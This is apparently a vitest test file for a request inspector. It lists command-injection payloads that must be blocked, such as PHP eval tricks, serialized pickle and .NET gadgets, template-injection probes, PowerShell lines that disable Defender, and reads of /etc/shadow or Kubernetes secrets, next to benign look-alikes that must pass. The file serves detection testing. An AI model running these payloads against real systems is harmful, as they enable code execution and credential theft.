import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../../benchmarks/traffic/policies.ts';
import { inspect } from '../../index.ts';
import { blocks, passes } from '../../testing/payloads.ts';
import { encodeLatin1, post, request } from '../../testing/requests.ts';

describe('command_injection, code of servers and serialised objects', () => {
  // PHP
  blocks('command_injection', [
    'eval($foo)',
    '$_COOKIE=1',
    'phpinfo(INFO_ALL);',
    "file_get_contents('http://x.example')",
    '{"$type":"System.IO.FileInfo, mscorlib","fileName":"x"}',
    "base64_decode('c3lzdGVt')",
    "array_map('system',['id'])",
    "$a='sys'.'tem';$a('id');",
    "('sys'.'tem')('id')",
    '(~%8F%97%8F%96%91%99%90)();',
    'chr(115).chr(121).chr(115)',
    'show_source(__FILE__)',
    "highlight_file('index.php')",
    "require_once('http://x.example/a')",
    "scandir('/')",
    "var_dump(scandir('.'))",
    "print_r(glob('*'))",
    "print_r(scandir('/'));",
    'var_dump($GLOBALS)',
    'get_defined_vars()',
    "getenv('SECRET')",
    "putenv('LD_PRELOAD=x')",
    "(new ReflectionFunction('system'))->invoke('id')",
    'error_reporting(0);@eval',
    'phpversion();',
    'echo phpversion();',
    'php_uname()',
    'print `id`;',
    'echo 1337*1337;',
    'echo(1337*7);',
    'print(41*271);',
    "/*x*/system/*y*/('id')",
    'system/**/("id")',
    "ReflectionFunction('phpinfo')",
    'extract($_GET)',
  ]);

  // objects brought to life
  blocks('command_injection', [
    '/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA',
    '/wEymwcAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs',
    '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://x\'"}]',
    "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://x.example/a.sql'",
    '<root type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Web.UI.LosFormatter]]">',
    'gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==',
    'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    'gAWVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    '!!python/name:os.system',
    "!!js/function 'function(){return 1}'",
    '!<tag:yaml.org,2002:python/object/apply:os.system>',
    'BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQ==',
    'BAhVOhVHZW06OlJlcXVpcmVtZW50WwZvOhhHZW06OlBhY2thZ2U6OlRhclJlYWRlcgY=',
    '{"^o":"Gem::Installer"}',
    '{"py/object":"__main__.X","py/reduce":[{"py/type":"os.system"}]}',
    '{"constructor":{"prototype":{"x":1}}}',
  ]);

  // templates and expressions
  blocks('command_injection', [
    '{%print(7*7)%}',
    '{{settings.SECRET_KEY}}',
    '{{ messages.storages.0.signer.key }}',
    '{{_context|join}}',
    "{{ constant('PHP_VERSION') }}",
    '${.data_model}',
    '${.version}',
    '@{7*7}',
    '<%= request.env %>',
    "<%= ENV['SECRET'] %>",
    '{math equation="1+1"}',
    "{'id'|system}",
    '{"id"|exec}',
    '{7*7}',
    '- var x = root.process',
    '[% PERL %]',
    '[% 7*7 %]',
    '{{-7*7-}}',
    '${sessionScope}',
    "#_='multipart/form-data'",
    '#{bean.value.class}',
    '#{bean.exec("id")}',
    '${beans.mailer}}${beans.mailer.send(1)}',
    '<!--esi $(HTTP_COOKIE) -->',
    '<esi:assign name="var1" value="\'x\'"/>',
  ]);

  // other languages
  blocks('command_injection', [
    'while(1){}',
    'for(;;){}',
    "globals()['__builtins__']",
    'breakpoint()',
    'time.sleep(5)',
    "importlib.import_module('os')",
  ]);

  passes([
    // letters of an image in base64 that happen to begin as such an object does
    'iVBORw0KGgoAAAANSUhEUgAAgASVcmVzdWx0c3R5bGVzgANjcG9zaXgKc3lzdGVtCnEAWAIAAAB4',
    'java.lang.IllegalStateException at org.apache.catalina.core.StandardWrapper',
    'Caused by: java.io.FileNotFoundException: /data/app.conf',
    'javax.faces.ViewState',
    'import os\nfor f in os.listdir("."):\n    print(f)',
    '__init__.cpython-311.pyc',
    'class A:\n    def __init__(self, b):\n        super().__init__()',
    '{% if customer %}Hello {{ customer.first_name }}{% else %}Hi{% endif %}',
    '{{ "now" | date: "%Y" }} {{ settings.logo }}',
    'Hello {name}, you have {count} messages',
    '{1,2,3} and {x*y}',
    'child_process is a module of Node',
    'return true to sender',
    'phpversion is a function',
    'import os; os.path.join(a, b) joins with a backslash on Windows',
    'a comment in Smarty: {* like this *}',
    'a{b*c}d',
    'Dear ${user}, <%= name %> and #{title}',
    'In JSF you write #{bean.value} for a property',
    '- [x] done [%] half',
  ]);
});

describe('command_injection, what interpreters were seen to run', () => {
  // PHP in eval, Jinja and ERB, each with a mark that its command left behind
  blocks('command_injection', [
    "strrev('metsys')('id');",
    "1+hex2bin('65786563')('id')",
    "str_rot13('flfgrz')('id');",
    "(chr(115).'ystem')('id');",
    "implode(['ex','ec'])('id');",
    '";["system"][0](\'id\');//',
    "1);ob_start('exec')?print('id'):0;//",
    "iterator_apply(new ArrayIterator([1]),'passthru',['id']);",
    "1+file_put_contents('/tmp/x','1')",
    "1);touch('/tmp/x');//",
    '{{(161)*(7)}}',
    '{{201**7%7}}',
    "{% if (cycler|attr('%s%s'|format('__in','it__')))['os'].popen('id') %}1{% endif %}",
    "<%= send('sys'+'tem','id') %>",
    '<% method(:system).call(%(id)) %>',
    "<%=Kernel.send(:system,'id')%>",
    '<%- `id` -%>',
    "<%spawn('id')%>",
  ]);
  passes([
    'const a = [["x"][0]]; f(["one"][0])',
    'the touch("soft") of wool',
    'usort(list, "name"); array_walk',
    '<%= object.name %> and <%- method %>',
    'a list of {{ price }} - {{ rebate }}',
    '{% if a % 2 %}odd{% endif %}',
    'implode and explode (both) are fun',
  ]);
});

describe('command_injection, what interpreters of other kinds run', () => {
  blocks('command_injection', [
    // an Erlang term, TeX with commands allowed, a one-line shell of classic ASP, a function made of text in PHP
    'os:cmd("id").',
    '\\immediate\\write18{id>out}',
    '\\input{|"id"}',
    'Response.Write(eval(Request.Item["x"],"unsafe"));',
    'execute request("c")',
    "$f=create_function('',$_POST[2]);$f();",
    // lookups of Apache Commons Text
    '${base64Decoder:SGVsbG8=}',
    '${urlDecoder:%68}',
    '${resourceBundle:app:db.password}',
    // PowerShell behind a separator
    ';Set-MpPreference -DisableRealtimeMonitoring $true',
    '& Set-ExecutionPolicy Bypass',
    // tools of an operator behind a separator
    ';kubectl get secrets -A',
    '; docker run -v /:/m alpine chroot /m',
    '10.0.0.1|dd if=/etc/shadow of=/tmp/x',
    'a.__proto__.b',
    'the __proto__[x]',
    '{{config.items()}}',
    '{{config.json.__class__}}',
  ]);
  passes([
    'our macOS: cmd (x) is fine',
    '\\input{chapter1} and \\write18 explained',
    'the request (eval) of Friday',
    'create_function() is deprecated since PHP 7.2',
    '${baseUrl}/docs',
    'Set-MpPreference reference; and its options',
    'we use docker; kubectl get is easier',
    'kubectl get pods or docker ps',
    'salt & pepper; dd if you like',
    'what is __proto__',
    'how does __proto__ work',
    'see {{config.yml}} and {{settings.json}}',
  ]);
});

describe('command_injection, templates and languages by what only they write', () => {
  blocks('command_injection', [
    "{% set c='id' %}{{ c|passthru }}",
    "{{ {'id':'x'}|filter('passthru') }}",
    "{{ [0]|reduce('system','id') }}",
    '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x")}',
    "{eval var='x'}",
    '@(System.IO.File.ReadAllText("c:\\x"))',
    '@{System.IO.File.WriteAllText("a","b");}',
    '<% for (var k in process.env) { %><%= k %><% } %>',
    '<%= __dirname %>',
    '${(()=>{return process})()}',
    "'cat /etc/x'.execute()",
    "['sh','-c','id'].execute()",
    'def p="id".execute();p.text',
    '@groovy.transform.ASTTest(value={x})',
    "@GrabResolver(name='x', root='http://x')",
    "new GroovyShell().evaluate('1')",
  ]);
  passes([
    'the .execute() method',
    'const rows = await db.prepare("SELECT 1").execute()',
    "statement['run'].execute()",
    'what is @Grab in groovy',
    "{{ items | map: 'name' }}",
    '{{ total | money }} | filter',
    '[a](b) | sort("name")',
    '`${items.map(() => global)}`',
    'new GroovyShell is a class',
    '@System.IO is a namespace',
  ]);
});

describe('command_injection, scripts and objects by what only they hold', () => {
  blocks('command_injection', [
    '<g:evaluate>gs.addErrorMessage(7*7);</g:evaluate>',
    '<j:jelly xmlns:j="jelly:core">',
    'java.lang.Runtime',
    'java.net.URL',
    'javax.script.ScriptEngineManager',
  ]);
  passes([
    '<g:plus>1</g:plus>',
    'peanut butter and <jelly>',
    'java.util.UUID',
    'java.util.ArrayList',
    'java.time.LocalDate',
    'java.math.BigDecimal',
    'int main(){ system("pause"); }',
    '#include <stdlib.h>\nint main(){system("cls");return 0;}',
  ]);
  blocks('command_injection', ['{system("id")}', '; system("pause;id")', '{system("pause","id")}']);

  test.each([
    ['BinaryFormatter', '\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c\x02\0\0\0ISystem'],
    [
      'pickle',
      '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
    ],
    ['Hessian', 'c\x02\0m\0\x03addMt\0\x2ajavax.swing.UIDefaults$ProxyLazyValueS\0\tclassName'],
  ])('an object of %s is a body by itself', (_name, body) => {
    const sent = { ...post('application/octet-stream', ''), body: encodeLatin1(body) };
    expect(inspect(policyOf('medium'), sent).decision).toBe('block');
  });

  test.each([
    '__pro__proto__to__[x]=1',
    '__prot__proto__o__.x=1',
    'a[consconstructortructor][prototype][x]=1',
  ])('%s is __proto__ once a filter has taken the inner one out', (query) => {
    expect(inspect(policyOf('medium'), request({ target: `/?${query}` })).decision).toBe('block');
  });
  test.each(['proto=1', 'constructor_name=a', '__protocol__=2', 'construction=3'])(
    '%s is a name',
    (query) => {
      expect(inspect(policyOf('medium'), request({ target: `/?${query}` })).decision).toBe('pass');
    },
  );
});
